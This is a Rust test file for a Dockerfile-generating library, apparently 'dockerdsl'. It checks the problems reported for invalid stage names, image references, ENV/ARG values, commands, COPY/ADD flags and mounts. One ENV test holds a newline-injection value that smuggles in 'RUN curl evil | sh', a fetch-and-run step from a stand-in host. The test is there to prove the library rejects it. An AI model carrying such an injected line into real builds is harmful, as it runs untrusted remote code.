//! One test per kind of problem `Dockerfile::new` reports: its message, its location
//! (stage, instruction, field) and, where there is one, its hint.

use dockerdsl::*;
use std::time::Duration;

/// The problems of building `stage`, as (location, message) pairs.
fn problems_of(result: Result<Dockerfile, Error>) -> Vec<(String, String)> {
    match result {
        Ok(d) => panic!("expected problems, got:\n{d}"),
        Err(e) => e
            .problems()
            .iter()
            .map(|p| (p.location().to_string(), p.message().to_owned()))
            .collect(),
    }
}

fn problems(stage: Stage) -> Vec<(String, String)> {
    problems_of(Dockerfile::new(&stage))
}

/// The single problem of building `stage`.
fn problem(stage: Stage) -> (String, String) {
    let mut all = problems(stage);
    assert_eq!(all.len(), 1, "{all:#?}");
    all.remove(0)
}

/// A well-formed `--checksum` of a download.
const SHA256: &str = "sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae";

fn alpine(name: &str) -> Stage {
    Stage::from_image(name.to_owned(), "alpine:3.20")
}

fn pair(location: &str, message: &str) -> (String, String) {
    (location.to_owned(), message.to_owned())
}

#[test]
fn invalid_stage_name_with_hint() {
    let err = Dockerfile::new(&alpine("Builder")).unwrap_err();
    let p = &err.problems()[0];
    assert_eq!(p.location().stage(), Some("Builder"));
    assert_eq!(p.message(), "invalid stage name \"Builder\"");
    assert_eq!(
        p.help(),
        Some("stage names are lower-case: use \"builder\"")
    );
    assert_eq!(
        err.to_string(),
        "error: stage `Builder`: invalid stage name \"Builder\"\n  = help: stage names are lower-case: use \"builder\"\n"
    );
}

#[test]
fn reserved_stage_name() {
    assert_eq!(
        problem(alpine("scratch")),
        pair(
            "stage `scratch`",
            "stage name `scratch` is reserved by BuildKit"
        )
    );
    assert_eq!(
        problem(alpine("context")).1,
        "stage name `context` is reserved by BuildKit"
    );
}

#[test]
fn two_different_stages_with_one_name() {
    let a = Stage::from_image("tools", "alpine:3.20");
    let b = Stage::from_image("tools", "debian:bookworm-slim");
    let app = alpine("app")
        .copy_from(&a, "/a", "/a")
        .copy_from(&b, "/b", "/b");
    assert_eq!(
        problem(app),
        pair(
            "stage `tools`",
            "two different stages are named `tools`: the first one stage `app` refers to has \
             `FROM alpine:3.20 AS tools` where a later one has `FROM debian:bookworm-slim AS tools`"
        )
    );
}

#[test]
fn invalid_image_reference() {
    let (loc, msg) = problem(Stage::from_image("app", "Alpine:3.20"));
    assert_eq!(loc, "stage `app`, base image");
    assert_eq!(
        msg,
        "invalid image reference \"Alpine:3.20\": `A` at position 1: repository names are lower-case"
    );
    let (_, msg) = problem(Stage::from_image("app", "alpine:3 20"));
    assert_eq!(
        msg,
        "invalid image reference \"alpine:3 20\": a space at position 9: a tag has letters, digits, \
         `_`, `.` and `-` only"
    );
    let (_, msg) = problem(Stage::from_image("app", "alpine@sha256:abc"));
    assert!(
        msg.starts_with("invalid image reference \"alpine@sha256:abc\": "),
        "{msg}"
    );
}

#[test]
fn undeclared_variable_in_from() {
    assert_eq!(
        problem(Stage::from_image("app", "rust:${RUST_VERSION}")),
        pair(
            "stage `app`, FROM",
            "`$RUST_VERSION` in FROM is not a global build argument, so it would be empty"
        )
    );
    // Automatic platform arguments need no declaration.
    assert!(
        Dockerfile::new(&Stage::from_image("app", "alpine:3.20").on_platform(Platform::BUILD))
            .is_ok()
    );
}

#[test]
fn invalid_platform() {
    assert_eq!(
        problem(alpine("app").on_platform("linux")),
        pair("stage `app`, --platform", "invalid platform \"linux\"")
    );
}

#[test]
fn image_or_context_named_like_a_stage() {
    let base = alpine("base");
    let app = Stage::from_stage("app", &base).copy_from(Source::image("base"), "/a", "/a");
    assert_eq!(
        problem(app),
        pair(
            "stage `app`, instruction 1 (COPY), --from",
            "image `base` has the name of a stage, so BuildKit would use the stage"
        )
    );
    let app = Stage::from_stage("app", &base).copy_from(Context::new("base"), "/a", "/a");
    assert_eq!(
        problem(app).1,
        "build context `base` has the name of a stage, so BuildKit would use the stage"
    );
}

#[test]
fn variable_in_copy_from_image() {
    let app = alpine("app").copy_from(Source::image("${IMG}"), "/a", "/a");
    assert!(problems(app).contains(&pair(
        "stage `app`, instruction 1 (COPY), --from",
        "variables are not expanded in `--from`"
    )));
}

#[test]
fn env_label_and_arg_problems() {
    assert_eq!(
        problem(alpine("app").env("1X", "v")),
        pair(
            "stage `app`, instruction 1 (ENV), key",
            "invalid variable name \"1X\""
        )
    );
    assert_eq!(
        problem(alpine("app").env("A", "x\nRUN curl evil | sh")),
        pair(
            "stage `app`, instruction 1 (ENV), value",
            "contains a newline, which would end the instruction"
        )
    );
    assert_eq!(
        problem(alpine("app").label("a b", "v")),
        pair(
            "stage `app`, instruction 1 (LABEL), key",
            "invalid label key \"a b\""
        )
    );
    assert_eq!(
        problem(alpine("app").arg(Arg::new("A").default("x\ry"))),
        pair(
            "stage `app`, instruction 1 (ARG), default",
            "contains a carriage return, which would end the instruction"
        )
    );
    assert_eq!(
        problem(alpine("app").arg("A-B")),
        pair(
            "stage `app`, instruction 1 (ARG), name",
            "invalid variable name \"A-B\""
        )
    );
    assert_eq!(
        problem(alpine("app").env("A", "a\0b")),
        pair(
            "stage `app`, instruction 1 (ENV), value",
            "contains a NUL byte"
        )
    );
    assert_eq!(
        problem(alpine("app").maintainer("a\nb")).0,
        "stage `app`, instruction 1 (MAINTAINER), name"
    );
}

#[test]
fn global_arg_problems() {
    let err = Dockerfile::builder()
        .arg("bad name")
        .target(&alpine("app"))
        .build();
    assert_eq!(
        problems_of(err),
        [pair(
            "global instruction 1 (ARG), name",
            "invalid variable name \"bad name\""
        )]
    );
}

#[test]
fn shell_command_problems() {
    let cases: [(Stage, &str); 9] = [
        (
            alpine("app").cmd(Command::shell("echo a\necho b")),
            "contains a newline, which would end the instruction",
        ),
        (
            alpine("app").run("echo \\"),
            "the command ends with the escape character `\\`, which would join the next line onto it",
        ),
        // The heredocs' bodies follow the command's line: it must not continue.
        (
            alpine("app").run(Run::heredocs("cat <<EOF \\", [Heredoc::new("EOF", "hi\n")])),
            "the command ends with the escape character `\\`, which would join the next line onto it",
        ),
        (
            alpine("app").run(Run::lines(["echo a", "  b \\"])),
            "the command ends with the escape character `\\`, which would join the next line onto it",
        ),
        (
            alpine("app").run("--privileged"),
            "the command starts with `--`, which BuildKit would read as a flag",
        ),
        (
            alpine("app").run("[\"ls\"] && make"),
            "the command starts with a JSON array, which Dockerfile frontends before 1.10 run as the exec form, dropping the rest",
        ),
        (
            alpine("app").run("cat <<EOF > /x"),
            "the command contains `<<`, which BuildKit would read as a heredoc whose body follows",
        ),
        (alpine("app").run(""), "the command is empty"),
        (
            alpine("app").run("# nothing"),
            "the command starts with `#`, so the shell would ignore it (and BuildKit drops it on a continuation line)",
        ),
    ];
    for (stage, message) in cases {
        let (loc, msg) = problem(stage);
        assert!(loc.ends_with(", command"), "{loc}");
        assert_eq!(msg, message);
    }
    // CMD does not read heredocs: `<<` is fine there.
    assert!(Dockerfile::new(&alpine("app").cmd(Command::shell("cat <<EOF"))).is_ok());
}

#[test]
fn empty_commands() {
    assert_eq!(
        problem(alpine("app").run(Run::chain(Vec::<String>::new()))).1,
        "the chain has no command"
    );
    assert_eq!(
        problem(alpine("app").run(Run::exec(Vec::<String>::new()))).1,
        "the command is empty"
    );
    assert_eq!(
        problem(alpine("app").shell(Vec::<String>::new())).1,
        "SHELL needs at least the shell program"
    );
    assert_eq!(
        problem(alpine("app").healthcheck(Healthcheck::cmd(Vec::<String>::new()))),
        pair(
            "stage `app`, instruction 1 (HEALTHCHECK), command",
            "the command is empty"
        )
    );
    // `CMD []` and `ENTRYPOINT []` are valid: they clear the inherited value.
    assert!(
        Dockerfile::new(&alpine("app").entrypoint(Command::Exec(dockerdsl::Texts::new()))).is_ok()
    );
}

#[test]
fn expose_backwards_range() {
    assert_eq!(
        problem(alpine("app").expose(Port::range(9000, 8000))),
        pair(
            "stage `app`, instruction 1 (EXPOSE), port",
            "port range 9000-8000 runs backwards"
        )
    );
}

#[test]
fn copy_problems() {
    assert_eq!(
        problem(alpine("app").push(Copy::many(["a", "b"], "/dest"))),
        pair(
            "stage `app`, instruction 1 (COPY), dest",
            "with 2 sources the destination must be a directory ending in `/`"
        )
    );
    assert_eq!(
        problem(alpine("app").copy("", "/x")),
        pair(
            "stage `app`, instruction 1 (COPY), source",
            "the path is empty"
        )
    );
    assert_eq!(
        problem(alpine("app").copy("a", "")),
        pair(
            "stage `app`, instruction 1 (COPY), dest",
            "the path is empty"
        )
    );
    assert_eq!(
        problem(alpine("app").push(Copy::inline("x", "/a b"))).1,
        "the destination of an inline file cannot contain whitespace, quotes or the escape character"
    );
    assert_eq!(
        problem(alpine("app").push(Copy::new("a", "/a").chown("a b"))),
        pair(
            "stage `app`, instruction 1 (COPY), --chown",
            "\"a b\" contains whitespace, which a Dockerfile flag cannot carry"
        )
    );
    assert_eq!(
        problem(alpine("app").push(Copy::new("a", "/a").chmod(0o17777))),
        pair(
            "stage `app`, instruction 1 (COPY), --chmod",
            "mode 17777 is not a file mode"
        )
    );
    assert_eq!(
        problem(alpine("app").push(Copy::new("a", "/a").chmod("rwx"))).1,
        "invalid symbolic mode \"rwx\""
    );
    assert_eq!(
        problem(alpine("app").push(Copy::new("a", "/a").exclude("*.md *.txt"))).0,
        "stage `app`, instruction 1 (COPY), --exclude"
    );
    // A quote, which no flag can carry (and no digest has).
    assert_eq!(
        problems(
            alpine("app").push(Add::new("https://example.com/a", "/a").checksum("sha256:\"x\""))
        )[0]
        .0,
        "stage `app`, instruction 1 (ADD), --checksum"
    );
    // BuildKit verifies the checksum of one download, with an algorithm it computes.
    assert_eq!(
        problem(alpine("app").push(Add::new("a.tar", "/a").checksum(SHA256))).1,
        "`--checksum` needs a URL or a Git source, not \"a.tar\""
    );
    assert_eq!(
        problem(
            alpine("app").push(Add::many(["https://a/x", "https://a/y"], "/a/").checksum(SHA256))
        )
        .1,
        "`--checksum` needs exactly one source, not 2"
    );
    assert_eq!(
        problem(
            alpine("app").push(
                Add::new("https://a/x", "/a").checksum("md5:d41d8cd98f00b204e9800998ecf8427e")
            )
        )
        .1,
        "invalid `--checksum` \"md5:d41d8cd98f00b204e9800998ecf8427e\" for a download: BuildKit computes sha256, sha384 and sha512 only"
    );
    // A Git source's checksum is a commit, a variable's source is the build's.
    for src in [
        "https://github.com/moby/buildkit.git#v0.10.1",
        "git@github.com:moby/buildkit.git",
        "$URL",
    ] {
        assert!(
            Dockerfile::new(&alpine("app").push(Add::new(src, "/a").checksum("e3f5b6c"))).is_ok(),
            "{src}"
        );
    }
}

#[test]
fn mount_problems() {
    assert_eq!(
        problem(alpine("app").run(Run::new("make").mount(Mount::cache("/a,b")))),
        pair(
            "stage `app`, instruction 1 (RUN), --mount target",
            "\"/a,b\" contains a comma, which separates mount options"
        )
    );
    assert_eq!(
        problem(alpine("app").run(Run::new("make").mount(Mount::secret("tok").env("1TOKEN")))),
        pair(
            "stage `app`, instruction 1 (RUN), --mount env",
            "invalid variable name \"1TOKEN\""
        )
    );
    assert_eq!(
        problem(alpine("app").run(Run::new("make").mount(Mount::cache("/c").mode(0o20000)))).0,
        "stage `app`, instruction 1 (RUN), --mount mode"
    );
}

#[test]
fn workdir_user_signal_volume_problems() {
    assert_eq!(
        problem(alpine("app").workdir("")),
        pair(
            "stage `app`, instruction 1 (WORKDIR), path",
            "the path is empty"
        )
    );
    assert_eq!(
        problem(alpine("app").workdir("/a\nRUN x")).1,
        "contains a newline, which would end the instruction"
    );
    assert_eq!(
        problem(alpine("app").user("a b")),
        pair(
            "stage `app`, instruction 1 (USER), user",
            "invalid user \"a b\""
        )
    );
    assert_eq!(
        problem(alpine("app").stopsignal("SIGTERM SIGKILL")),
        pair(
            "stage `app`, instruction 1 (STOPSIGNAL), signal",
            "invalid signal \"SIGTERM SIGKILL\""
        )
    );
    assert_eq!(
        problem(alpine("app").volume("")),
        pair(
            "stage `app`, instruction 1 (VOLUME), path",
            "the path is empty"
        )
    );
}

#[test]
fn onbuild_problems() {
    let (loc, msg) =
        problem(alpine("app").onbuild(Instruction::OnBuild(Box::new(Run::new("x").into()))));
    assert_eq!(loc, "stage `app`, instruction 1 (ONBUILD)");
    assert_eq!(msg, "ONBUILD is not allowed in ONBUILD");
    assert_eq!(
        problem(alpine("app").onbuild(Instruction::Env(vec![("A".into(), "\n".into())].into()))),
        pair(
            "stage `app`, instruction 1 (ONBUILD ENV), value",
            "contains a newline, which would end the instruction"
        )
    );
}

#[test]
fn healthcheck_duration_too_short() {
    assert_eq!(
        problem(
            alpine("app")
                .healthcheck(Healthcheck::cmd(["true"]).interval(Duration::from_micros(10)))
        ),
        pair(
            "stage `app`, instruction 1 (HEALTHCHECK), --interval",
            "durations shorter than 1ms are not allowed"
        )
    );
}

#[test]
fn feature_newer_than_pinned_syntax() {
    let s = alpine("app")
        .run("set -e\nmake\n")
        .push(Copy::new("a", "/a").link());
    let err = Dockerfile::builder()
        .syntax(Syntax::Minor(3))
        .target(&s)
        .build();
    assert_eq!(
        problems_of(err),
        [
            pair(
                "stage `app`, instruction 1 (RUN), command",
                "a multi-line script (heredoc) needs docker/dockerfile:1.4, but the syntax is pinned to 1.3"
            ),
            pair(
                "stage `app`, instruction 2 (COPY), --link",
                "`--link` needs docker/dockerfile:1.4, but the syntax is pinned to 1.3"
            ),
        ]
    );
    assert!(
        Dockerfile::builder()
            .syntax(Syntax::Minor(4))
            .target(&s)
            .build()
            .is_ok()
    );
}

#[test]
fn line_too_long() {
    let (loc, msg) = problem(alpine("app").env("A", "x".repeat(70_000)));
    assert_eq!(loc, "stage `app`, instruction 1 (ENV)");
    assert_eq!(
        msg,
        "a line of this instruction is 70006 bytes long; BuildKit reads at most 65535"
    );
}

#[test]
fn invalid_check_rule() {
    let err = Dockerfile::builder()
        .checks(BuildChecks::new().skip("no-such rule"))
        .target(&alpine("app"))
        .build();
    assert_eq!(
        problems_of(err),
        [pair("# check", "invalid build check name \"no-such rule\"")]
    );
}

#[test]
fn no_target() {
    assert_eq!(
        problems_of(Dockerfile::builder().build()),
        [pair("", "the Dockerfile has no target stage")]
    );
}

#[test]
fn last_target_needed_by_another() {
    let base = alpine("base");
    let app = Stage::from_stage("app", &base);
    assert_eq!(
        problems_of(Dockerfile::builder().target(&app).target(&base).build()),
        [pair(
            "stage `base`",
            "the last target `base` cannot be the last stage: stage `app` depends on it"
        )]
    );
}

#[test]
fn every_problem_at_once_in_file_order() {
    let build = Stage::from_image("Build", "golang:1.23").env("bad key", "v");
    let app = Stage::from_image("app", "alpine:3.20")
        .comment("comments are not counted")
        .workdir("")
        .copy_from(&build, "/a", "")
        .user("a b");
    let err = Dockerfile::new(&app).unwrap_err();
    let got: Vec<String> = err
        .problems()
        .iter()
        .map(|p| p.location().to_string())
        .collect();
    assert_eq!(
        got,
        [
            "stage `Build`",
            "stage `Build`, instruction 1 (ENV), key",
            "stage `app`, instruction 1 (WORKDIR), path",
            "stage `app`, instruction 2 (COPY), dest",
            "stage `app`, instruction 3 (USER), user",
        ]
    );
    assert!(
        err.to_string()
            .starts_with("5 problems in the Dockerfile:\nerror: stage `Build`: invalid stage name")
    );
}

#[test]
fn text_that_cannot_be_carried() {
    assert_eq!(
        problem(alpine("app").run("echo a\r\necho b\r\n")),
        pair(
            "stage `app`, instruction 1 (RUN), command",
            "contains a carriage return, which BuildKit drops from heredoc lines"
        )
    );
    assert_eq!(
        problem(alpine("app").push(Copy::inline("a\r\n", "/a"))).0,
        "stage `app`, instruction 1 (COPY), content"
    );
    assert_eq!(
        problem(alpine("app").comment("a\rb")),
        pair(
            "stage `app`, comment before instruction 1, text",
            "contains a carriage return"
        )
    );
    assert_eq!(
        problem(alpine("app").cmd(["a\0b"])),
        pair(
            "stage `app`, instruction 1 (CMD), command",
            "contains a NUL byte"
        )
    );
    assert_eq!(
        problem(alpine("app").shell(["/bin/sh\0"])),
        pair(
            "stage `app`, instruction 1 (SHELL), shell",
            "contains a NUL byte"
        )
    );
    assert_eq!(
        problem(alpine("app").volume(" /data")),
        pair(
            "stage `app`, instruction 1 (VOLUME), path",
            "volume \" /data\" starts or ends with whitespace, which BuildKit drops"
        )
    );
}

#[test]
fn invalid_context_names() {
    assert_eq!(
        problem(Stage::from_context("app", Context::new("Src"))),
        pair("stage `app`, base context", "invalid stage name \"Src\"")
    );
    let run = Run::new("make").mount(Mount::bind("/src").from(Context::new("bad name")));
    assert_eq!(
        problem(alpine("app").run(run)).0,
        "stage `app`, instruction 1 (RUN), --mount from"
    );
}

#[test]
fn features_and_their_frontend_versions() {
    let pinned = |minor: u32, stage: &Stage| {
        Dockerfile::builder()
            .syntax(Syntax::Minor(minor))
            .target(stage)
            .build()
    };
    let build = alpine("build");
    let onbuild = alpine("app").onbuild(Copy::new("/a", "/a").from(&build));
    assert_eq!(
        problems_of(pinned(10, &onbuild)),
        [pair(
            "stage `app`, instruction 1 (ONBUILD), --from",
            "a stage reference in ONBUILD needs docker/dockerfile:1.11, but the syntax is pinned to 1.10"
        )]
    );
    let chown = alpine("app").push(Copy::new("a", "/a").chown("app:"));
    assert_eq!(problems_of(pinned(27, &chown)).len(), 1);
    assert!(pinned(28, &chown).is_ok());
    let checks = Dockerfile::builder()
        .syntax(Syntax::Minor(7))
        .checks(BuildChecks::new().skip_all())
        .target(&alpine("app"))
        .build();
    assert_eq!(
        problems_of(checks),
        [pair(
            "# check",
            "the check directive needs docker/dockerfile:1.8, but the syntax is pinned to 1.7"
        )]
    );
    let secret_env = alpine("app").run(Run::new("make").mount(Mount::secret("t").env("TOKEN")));
    assert_eq!(
        problems_of(pinned(9, &secret_env))[0].1,
        "a secret mounted as an environment variable needs docker/dockerfile:1.10, but the syntax is pinned to 1.9"
    );
    let security = alpine("app").run(Run::new("make").security(Security::Insecure));
    assert_eq!(
        problems_of(pinned(19, &security))[0].0,
        "stage `app`, instruction 1 (RUN), --security"
    );
}

/// `Dockerfile::new` checks a value that many stages share (a literal in the code that
/// builds them) once, by its address; only a value that passed is remembered, so a shared
/// value with a problem is reported at every place it is used, and a value that passed one
/// rule is still checked by the others.
#[test]
fn a_shared_value_is_reported_wherever_it_is() {
    const BAD_USER: &str = "a b";
    const COMMAND: &str = "make build";
    let first = alpine("first").user(BAD_USER).run(COMMAND).user(BAD_USER);
    let second = Stage::from_stage("second", &first)
        .run(COMMAND)
        .user(BAD_USER)
        // The same bytes that passed as a command, now as a variable name.
        .env(COMMAND, "1");
    assert_eq!(
        problems(second),
        [
            pair(
                "stage `first`, instruction 1 (USER), user",
                &problem(alpine("x").user(BAD_USER)).1
            ),
            pair(
                "stage `first`, instruction 3 (USER), user",
                &problem(alpine("x").user(BAD_USER)).1
            ),
            pair(
                "stage `second`, instruction 2 (USER), user",
                &problem(alpine("x").user(BAD_USER)).1
            ),
            pair(
                "stage `second`, instruction 3 (ENV), key",
                &problem(alpine("x").env(COMMAND, "1")).1
            ),
        ]
    );
}
